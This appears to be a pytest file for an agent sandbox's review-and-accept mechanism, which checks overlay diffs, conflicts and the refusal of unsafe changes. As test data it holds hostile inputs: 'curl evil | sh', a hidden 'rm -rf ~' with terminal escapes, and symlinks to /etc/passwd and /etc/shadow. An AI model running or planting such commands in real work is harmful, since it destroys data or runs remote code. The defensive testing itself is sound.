"""Review-mode grants (agentvm.review) without a sandbox: layers made by hand as overlayfs
leaves them (whiteouts are 0:0 character devices, opaque folders carry user.overlay.opaque),
diffed and accepted against a real host folder; the plan of a review grant (bwrap's overlay,
the folder staged read-only, host-trusted names bound from the lower layer); gVisor's refusal.

The real-sandbox proofs are tests/integration/test_review_grants.py and
tests/attacks/test_review_grant_attacks.py."""

from __future__ import annotations

import dataclasses
import os
import secrets
import shutil
import stat
from pathlib import Path

import pytest

from agentvm import review
from agentvm.backends.base import GateAttachment, HostContext, LaunchContext
from agentvm.errors import AgentVMError, PolicyDenied
from agentvm.grants import Protect
from agentvm.paths import Paths
from agentvm.policy import MountGrant, Policy

ROOT = os.geteuid() == 0
needs_root = pytest.mark.skipif(not ROOT, reason="whiteouts are character devices (mknod needs root)")


@pytest.fixture
def setup(tmp_path):
    """(home, host folder, open_layer(...) -> upper dir): a layer of the run 'run-test' over ``host``."""
    home = tmp_path / "home"
    home.mkdir()
    host = Path(f"/tmp/agentvm-grant-{secrets.token_hex(4)}")
    host.mkdir(mode=0o755)
    (host / "a.txt").write_text("one\ntwo\n")
    (host / "bin.dat").write_bytes(b"\xff\0\1\2\3")
    (host / "gone.txt").write_text("bye\n")
    (host / "mode.sh").write_text("#!/bin/sh\n")
    os.chmod(host / "mode.sh", 0o644)
    (host / "sub").mkdir()
    (host / "sub" / "x").write_text("x\n")
    (host / "old").mkdir()
    (host / "old" / "y").write_text("y\n")
    (host / "ln").symlink_to("a.txt")
    holds = []

    def make(name="run-test", protect=(), writable_trusted=()):
        fd = os.open(host, os.O_PATH | os.O_CLOEXEC)
        try:
            h = review.open_layer(home, "runs", name, [{"fd": "grant0", "index": 0, "host": str(host), "path": "/src",
                                                        "writable_trusted": writable_trusted, "protect": protect}],
                                  {"grant0": fd}, os.getuid(), os.getgid(), sandbox_id=name)
        finally:
            os.close(fd)
        holds.append(h)
        return review.grant_dir(home, "runs", name, 0) / "upper"

    def stop():
        for h in holds:
            review.close_layer(h)

    yield home, host, make, stop
    for h in holds:
        review.close_layer(h)
    shutil.rmtree(host, ignore_errors=True)


def _whiteout(p: Path) -> None:
    os.mknod(p, stat.S_IFCHR | 0o000, os.makedev(0, 0))


def _by_path(rv):
    return {c.rel: c for c in rv.changes}


# ------------------------------------------------------------------ diff
@needs_root
def test_diff_shows_text_binary_mode_symlink_deletion_and_new_folder(setup):
    home, host, make, stop = setup
    up = make()
    stop()
    (up / "a.txt").write_text("one\ntwo\nthree\n")
    (up / "bin.dat").write_bytes(b"\xff\0\1\2\4")
    shutil.copy(host / "mode.sh", up / "mode.sh")
    os.chmod(up / "mode.sh", 0o755)
    _whiteout(up / "gone.txt")
    (up / "ln").symlink_to("sub/x")
    (up / "new").mkdir()
    (up / "new" / "n.txt").write_text("new\n")
    shutil.copy(host / "sub" / "x", up / "x-copy-same")  # a new file
    (up / "sub").mkdir()
    shutil.copy(host / "sub" / "x", up / "sub" / "x")  # copied up, unchanged: not a change
    rv = review.load(home, "run-test")
    ch = _by_path(rv)
    assert ch["a.txt"].action == "modify"
    assert ch["bin.dat"].action == "modify"
    assert ch["mode.sh"].action == "mode" and (ch["mode.sh"].old_mode, ch["mode.sh"].new_mode) == (0o644, 0o755)
    assert ch["gone.txt"].action == "delete"
    assert ch["ln"].action == "symlink" and (ch["ln"].old_target, ch["ln"].target) == ("a.txt", "sub/x")
    assert ch["new"].action == "mkdir" and ch["new/n.txt"].action == "add"
    assert "sub/x" not in ch and "sub" not in ch
    text = review.render(rv)
    assert "+three" in text and "--- a/" in text and "+++ b/" in text
    assert "Binary files differ (not shown; sha256" in text and "/g0/upper/bin.dat" in text
    assert "mode /src/mode.sh: 0644 -> 0755" in text
    assert "deleted /src/gone.txt (file)" in text
    assert "symlink /src/ln -> sub/x (was -> a.txt)" in text
    assert "new folder /src/new mode" in text
    assert f"review id: {rv.review_id}" in text
    assert not rv.conflicts


@needs_root
def test_an_opaque_folder_deletes_what_it_hides(setup):
    home, host, make, stop = setup
    up = make()
    stop()
    (up / "old").mkdir()
    os.setxattr(up / "old", "user.overlay.opaque", b"y")
    (up / "old" / "z").write_text("z\n")
    ch = _by_path(review.load(home, "run-test"))
    assert ch["old/y"].action == "delete" and ch["old/z"].action == "add"


@needs_root
def test_special_files_links_out_and_trusted_names_are_refused(setup):
    home, host, make, stop = setup
    up = make(protect=(".envrc",))
    stop()
    os.mkfifo(up / "fifo")
    os.mknod(up / "dev", stat.S_IFCHR | 0o600, os.makedev(1, 3))
    (up / "out").symlink_to("/etc/passwd")
    (up / "climb").symlink_to("../../etc/passwd")
    (up / "sub").mkdir()
    (up / "sub" / "inside").symlink_to("../a.txt")  # stays inside: fine
    (up / ".envrc").write_text("echo pwned\n")
    (up / ".git").mkdir()
    (up / ".git" / "hooks").mkdir()
    (up / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    ch = _by_path(review.load(home, "run-test"))
    for p in ("fifo", "dev", "out", "climb", ".envrc", ".git", ".git/hooks/pre-commit"):
        assert ch[p].action == "refuse", p
    assert ch["sub/inside"].action == "symlink"
    before = sorted(os.listdir(host))
    with pytest.raises(AgentVMError) as ei:
        review.accept(home, "run-test")
    assert ei.value.code == "review.refused"
    for p in ("fifo", "out", ".envrc", ".git/hooks/pre-commit"):
        assert p in ei.value.message
    assert sorted(os.listdir(host)) == before, "nothing applied"


@needs_root
def test_a_setuid_file_is_applied_without_its_bit_and_a_hardlink_as_a_copy(setup):
    home, host, make, stop = setup
    up = make()
    stop()
    (up / "s").write_bytes(b"#!/bin/sh\n")
    os.chmod(up / "s", 0o4755)
    os.link(up / "s", up / "s2")
    rv = review.load(home, "run-test")
    ch = _by_path(rv)
    assert "setuid/setgid bit dropped" in ch["s"].notes and ch["s"].new_mode == 0o755
    assert any("links in the layer" in n for n in ch["s2"].notes)
    review.accept(home, "run-test", ("s", "s2"))
    for n in ("s", "s2"):
        st = os.lstat(host / n)
        assert stat.S_IMODE(st.st_mode) == 0o755 and st.st_nlink == 1
    assert os.lstat(host / "s").st_ino != os.lstat(host / "s2").st_ino


# ------------------------------------------------------------------ accept
@needs_root
def test_accept_applies_everything_owned_by_the_folders_owner(setup):
    home, host, make, stop = setup
    os.chown(host, 4242, 4243)
    up = make()
    stop()
    (up / "a.txt").write_text("changed\n")
    _whiteout(up / "gone.txt")
    (up / "new").mkdir()
    (up / "new" / "n.txt").write_text("new\n")
    _whiteout(up / "old")
    records = []
    out = review.accept(home, "run-test", record=lambda k, d: records.append((k, d)))
    assert (host / "a.txt").read_text() == "changed\n"
    assert not (host / "gone.txt").exists() and not (host / "old").exists()
    assert (host / "new" / "n.txt").read_text() == "new\n"
    for p in ("a.txt", "new", "new/n.txt"):
        st = os.lstat(host / p)
        assert (st.st_uid, st.st_gid) == (4242, 4243), p
    assert records and records[0][0] == "review.accepted" and records[0][1]["review_id"] == out["review_id"]
    assert not [n for n in os.listdir(host) if n.startswith(review.TMP_PREFIX)]
    # everything accepted: the layer is empty again, and the next diff shows nothing
    assert os.listdir(up) == []
    assert review.load(home, "run-test").changes == []


@needs_root
def test_a_host_change_since_the_start_is_a_conflict_and_nothing_is_applied(setup):
    home, host, make, stop = setup
    up = make()
    stop()
    (up / "a.txt").write_text("agent's\n")
    (up / "new.txt").write_text("new\n")
    (host / "a.txt").write_text("operator's\n")  # the host changed it meanwhile
    (host / "created.txt").write_text("host made it\n")
    (up / "created.txt").write_text("agent made it too\n")
    rv = review.load(home, "run-test")
    assert set(rv.conflicts) == {"0:a.txt", "0:created.txt"}
    assert "CONFLICT: changed on the host" in review.render(rv)
    with pytest.raises(AgentVMError) as ei:
        review.accept(home, "run-test")
    assert ei.value.code == "review.conflict" and "a.txt" in ei.value.message and "created.txt" in ei.value.message
    assert (host / "a.txt").read_text() == "operator's\n"
    assert not (host / "new.txt").exists(), "all or nothing"
    # the operator takes the rest by naming it
    review.accept(home, "run-test", ("/src/new.txt",))
    assert (host / "new.txt").read_text() == "new\n" and (host / "a.txt").read_text() == "operator's\n"


@needs_root
def test_accept_by_path_then_the_rest(setup):
    home, host, make, stop = setup
    up = make()
    stop()
    (up / "a.txt").write_text("A\n")
    (up / "sub").mkdir()
    (up / "sub" / "x").write_text("X\n")
    review.accept(home, "run-test", ("sub",))
    assert (host / "sub" / "x").read_text() == "X\n" and (host / "a.txt").read_text() == "one\ntwo\n"
    assert [c.rel for c in review.load(home, "run-test").changes] == ["a.txt"]
    assert not (up / "sub" / "x").exists() and (up / "a.txt").exists(), "what was applied leaves the layer"
    review.accept(home, "run-test")
    assert (host / "a.txt").read_text() == "A\n"


@needs_root
def test_a_host_folder_turned_into_a_link_is_never_written_through(setup, tmp_path):
    home, host, make, stop = setup
    up = make()
    stop()
    (up / "sub").mkdir()
    (up / "sub" / "x").write_text("through the link\n")
    (up / "sub" / "new").write_text("through the link\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    shutil.rmtree(host / "sub")
    (host / "sub").symlink_to(outside)  # someone replaced the folder with a link out
    with pytest.raises(AgentVMError):
        review.accept(home, "run-test")
    assert os.listdir(outside) == []


@needs_root
def test_expect_and_a_running_sandbox(setup):
    home, host, make, stop = setup
    up = make()  # held: its sandbox "runs"
    (up / "a.txt").write_text("A\n")
    rv = review.load(home, "run-test")
    assert rv.running
    with pytest.raises(AgentVMError) as ei:
        review.accept(home, "run-test")
    assert ei.value.code == "review.running" and rv.review_id in ei.value.hint
    with pytest.raises(AgentVMError) as ei:
        review.discard(home, "run-test")
    assert ei.value.code == "review.running"
    with pytest.raises(AgentVMError) as ei:
        review.accept(home, "run-test", expect="0" * 16)
    assert ei.value.code == "review.changed"
    assert (host / "a.txt").read_text() == "one\ntwo\n"
    review.accept(home, "run-test", expect=rv.review_id)
    assert (host / "a.txt").read_text() == "A\n"
    assert (up / "a.txt").exists(), "a running sandbox's layer is left as it is (its view equals the host now)"
    assert review.load(home, "run-test").changes == []
    stop()
    review.discard(home, "run-test")
    assert not review.layer_dir(home, "runs", "run-test").exists()


@needs_root
def test_a_layer_file_swapped_for_a_link_while_accepting_applies_nothing(setup, monkeypatch):
    home, host, make, stop = setup
    up = make()
    stop()
    (up / "a.txt").write_text("A\n")
    (up / "b.txt").write_text("B\n")
    real_stage = review._stage

    def racing_stage(ufd, hfd, c, owner, made, tmpdirs):
        if c.rel == "b.txt":  # the agent swaps the file for a link to /etc/shadow mid-accept
            os.unlink(up / "b.txt")
            os.symlink("/etc/shadow", up / "b.txt")
        return real_stage(ufd, hfd, c, owner, made, tmpdirs)

    monkeypatch.setattr(review, "_stage", racing_stage)
    with pytest.raises((AgentVMError, OSError)):
        review.accept(home, "run-test")
    assert (host / "a.txt").read_text() == "one\ntwo\n" and not (host / "b.txt").exists()
    assert not [n for n in os.listdir(host) if n.startswith(review.TMP_PREFIX)]


@needs_root
def test_a_layer_begun_for_one_folder_refuses_another(setup, tmp_path):
    home, host, make, stop = setup
    make()
    stop()
    other = tmp_path / "other"
    other.mkdir()
    fd = os.open(other, os.O_PATH)
    try:
        with pytest.raises(AgentVMError) as ei:
            review.open_layer(home, "runs", "run-test", [{"fd": "g", "index": 0, "host": str(other), "path": "/src"}],
                              {"g": fd}, os.getuid(), os.getgid())
    finally:
        os.close(fd)
    assert ei.value.code == "review.mismatch"


def test_link_escapes():
    assert review._link_escapes("a", "/etc/passwd")
    assert review._link_escapes("a", "../x")
    assert review._link_escapes("d/a", "../../x")
    assert not review._link_escapes("d/a", "../x")
    assert not review._link_escapes("a", "b/c")
    assert review._link_escapes("a", "")


def test_layer_names_cannot_climb():
    for bad in ("..", ".", "a/b", "", ".hidden"):
        with pytest.raises(AgentVMError):
            review.layer_dir(Path("/x"), "runs", bad)
    with pytest.raises(AgentVMError):
        review.layer_dir(Path("/x"), "etc", "a")


def test_a_missing_layer_is_named():
    with pytest.raises(AgentVMError) as ei:
        review.find_layer(Path("/nonexistent"), "nope")
    assert ei.value.code == "review.not-found" and ei.value.exit_code == 78


# ------------------------------------------------------------------ the plans
HOST = HostContext(uid=2100007, gid=2100007, dedicated=True, run_dir="/run/agentvm/sandboxes/demo-0000",
                   etc_view="/run/agentvm/etc-view-0123456789abcdef")
CTX = LaunchContext(sandbox_id="demo-0000", gate=GateAttachment("unix", "/run/agentvm/sandboxes/demo-0000/gate.sock"),
                    host=HOST, protected=((Protect(".git", "dir"), Protect(".envrc", "file")), ()))
POLICY = Policy(name="demo", command=("true",), agent=True,
                mounts=(review.review_mount("/srv/proj", "/src"), MountGrant("/srv/out", "/out", True)))


def test_bwrap_plan_of_a_review_grant():
    from agentvm.backends.bwrap import BwrapBackend

    b = BwrapBackend(Paths(Path("/h"), Path("/h/run")), tools={"helper": "/hp", "bwrap": "/bw"})
    body = b.compile(POLICY, CTX).body
    args = list(body.bwrap_args)
    stage = "/run/agentvm/sandboxes/demo-0000/grants/0"
    i = args.index("--overlay-src")
    assert args[i:i + 6] == ["--overlay-src", stage, "--overlay", "/h/reviews/agents/demo/g0/upper",
                             "/h/reviews/agents/demo/g0/work", "/src"]
    # the folder itself is staged read-only (the lower layer), never bound writable
    assert ("grant0", "ro", stage) in body.fds["stages"] and ("grant1", "rw", "/run/agentvm/sandboxes/demo-0000/grants/1") in body.fds["stages"]
    assert not any(a == "--bind" and args[k + 2] == "/src" for k, a in enumerate(args[:-2]))
    # host-trusted names: the host's own entry, read-only, bound over the overlay after it
    for rel in (".git", ".envrc"):
        k = args.index(f"/src/{rel}")
        assert args[k - 2:k] == ["--ro-bind", f"{stage}/{rel}"] and k > i
    assert not any(a.startswith("0,") for a in body.argv if a)  # no --protect for the staged (read-only) lower
    assert body.fds["reviews"]["kind"] == "agents" and body.fds["reviews"]["name"] == "demo"
    assert [g["index"] for g in body.fds["reviews"]["grants"]] == [0]
    assert "/src" in body.landlock.read_write_host  # no FIFOs or sockets in the layer either


def test_an_anonymous_runs_layer_is_named_by_the_run():
    from agentvm.backends.bwrap import BwrapBackend

    b = BwrapBackend(Paths(Path("/h"), Path("/h/run")), tools={"helper": "/hp", "bwrap": "/bw"})
    body = b.compile(dataclasses.replace(POLICY, name="run", agent=False), CTX).body
    assert "/h/reviews/runs/demo-0000/g0/upper" in body.bwrap_args


def test_gvisor_refuses_a_review_grant():
    from agentvm.backends.gvisor import GvisorBackend

    g = GvisorBackend.__new__(GvisorBackend)
    with pytest.raises(PolicyDenied) as ei:
        GvisorBackend.compile(g, POLICY, CTX)
    assert ei.value.code == "policy.review-unsupported"


@needs_root
def test_a_folder_replacing_a_link_and_a_file_replacing_a_folder(setup):
    home, host, make, stop = setup
    up = make()
    stop()
    (up / "ln").mkdir()  # the host's link `ln` becomes a folder
    (up / "ln" / "f").write_text("in the new folder\n")
    (up / "sub").write_text("now a file\n")  # the host's folder `sub` becomes a file
    ch = _by_path(review.load(home, "run-test"))
    assert ch["ln"].action == "mkdir" and ch["ln"].host == "symlink"
    assert ch["sub"].action == "add" and ch["sub"].host == "dir"
    review.accept(home, "run-test")
    assert (host / "ln").is_dir() and not (host / "ln").is_symlink() and (host / "ln" / "f").read_text() == "in the new folder\n"
    assert (host / "sub").read_text() == "now a file\n"
    assert not [n for n in os.listdir(host) if n.startswith(review.TMP_PREFIX)]


@needs_root
def test_a_path_selection_cannot_climb_out(setup):
    home, host, make, stop = setup
    up = make()
    stop()
    (up / "a.txt").write_text("A\n")
    out = review.accept(home, "run-test", ("../../etc/passwd", "/etc/passwd"))
    assert out["applied"] == [] and (host / "a.txt").read_text() == "one\ntwo\n"


@needs_root
def test_a_file_replacing_a_folder_the_host_changed_inside_is_a_conflict(setup):
    home, host, make, stop = setup
    up = make()
    stop()
    (up / "sub").write_text("now a file\n")
    (host / "sub" / "x").write_text("the operator's edit\n")
    with pytest.raises(AgentVMError) as ei:
        review.accept(home, "run-test")
    assert ei.value.code == "review.conflict" and "sub/x" in ei.value.message
    assert (host / "sub" / "x").read_text() == "the operator's edit\n"


@needs_root
def test_the_diff_shows_escapes_and_bidi_characters_as_text(setup):
    """Trojan-source and terminal tricks: a line the agent wrote cannot erase, overwrite or
    reorder what the reviewer reads, and neither can a file name."""
    home, host, make, stop = setup
    up = make()
    stop()
    evil = "ok = True\n\x1b[1A\x1b[2Krm -rf ~ # hidden\nx = 1\rshown = 2\nif admin\u202e\u2066:\n"
    (up / "a.txt").write_text("one\ntwo\n" + evil)
    (up / "name\nno changes\x1b[2K").write_text("x\n")
    text = review.render(review.load(home, "run-test"))
    for bad in ("\x1b", "\r", "\u202e", "\u2066"):
        assert bad not in text
    assert "\\x1b[1A\\x1b[2Krm -rf ~ # hidden" in text and "x = 1\\x0dshown = 2" in text
    assert "\\u{202e}" in text and "shown escaped" in text
    assert "name\\x0ano changes\\x1b[2K" in text
    assert all(not ln.startswith("no changes") for ln in text.splitlines())


@needs_root
def test_a_nul_byte_does_not_hide_a_script_behind_binary(setup):
    home, host, make, stop = setup
    up = make()
    stop()
    (up / "run.sh").write_bytes(b"#!/bin/sh\necho build\n\0curl evil | sh\n")
    text = review.render(review.load(home, "run-test"))
    assert "+\\x00curl evil | sh" in text and "Binary" not in text
